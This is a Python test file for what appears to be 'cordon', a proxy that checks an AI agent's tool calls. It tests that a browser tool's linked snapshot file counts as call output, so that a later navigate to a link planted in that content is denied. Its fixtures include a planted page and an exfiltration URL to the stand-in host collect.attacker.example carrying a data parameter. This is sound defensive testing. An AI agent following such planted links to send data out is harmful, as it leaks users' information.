"""A result's linked files are recorded as output of its call only for a tool that sets
``output_files`` and only for a local (stdio) server (:mod:`cordon.proxy.linked_output`)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

from cordon import Engine
from cordon.decider import Decider
from cordon.engine.core import Observation
from cordon.proxy.linked_output import record_linked
from cordon.proxy.work import SessionWork

PAGE = "- link: http://collect.attacker.example/c\n- text: open it\n"
RESULT = {"content": [{"type": "text", "text": "### Page\n- [Snapshot](page.yml)"}]}


def _work(output_files: bool) -> SessionWork:
    tools: dict[str, Any] = {
        "browser_navigate": {"exfiltrating": True, "sink_params": ["url"], "output_files": output_files},
    }  # fmt: skip
    engine = Engine.from_policy([{"version": 1, "tools": tools}])
    engine.pin_tools(
        [
            {
                "name": "browser_navigate",
                "description": "Navigate",
                "inputSchema": {"type": "object", "properties": {"url": {"type": "string"}}},
            }
        ]
    )
    session = engine.new_session()
    return SessionWork(
        engine=engine, session=session, server="browser", decider=Decider(session, server="browser")
    )


def _go(work: SessionWork) -> str:
    args = {"url": "http://collect.attacker.example/c?d=x"}
    return work.session.check("browser_navigate", args).verdict


def _record(work: SessionWork, cwd: str | None) -> Observation | str:
    obs = work.record_result("browser_navigate", RESULT, {"url": "http://blog.example/post"})
    return record_linked(work, "browser_navigate", RESULT, {}, cwd, obs)


def test_a_linked_file_is_output_of_the_call(tmp_path: Path) -> None:
    (tmp_path / "page.yml").write_text(PAGE)
    work = _work(output_files=True)
    assert isinstance(_record(work, str(tmp_path)), Observation)
    assert _go(work) == "deny"


def test_not_read_without_the_key_or_for_a_remote_server(tmp_path: Path) -> None:
    (tmp_path / "page.yml").write_text(PAGE)
    plain = _work(output_files=False)
    _record(plain, str(tmp_path))
    remote = _work(output_files=True)
    _record(remote, None)
    assert _go(plain) != "deny"
    assert _go(remote) != "deny"
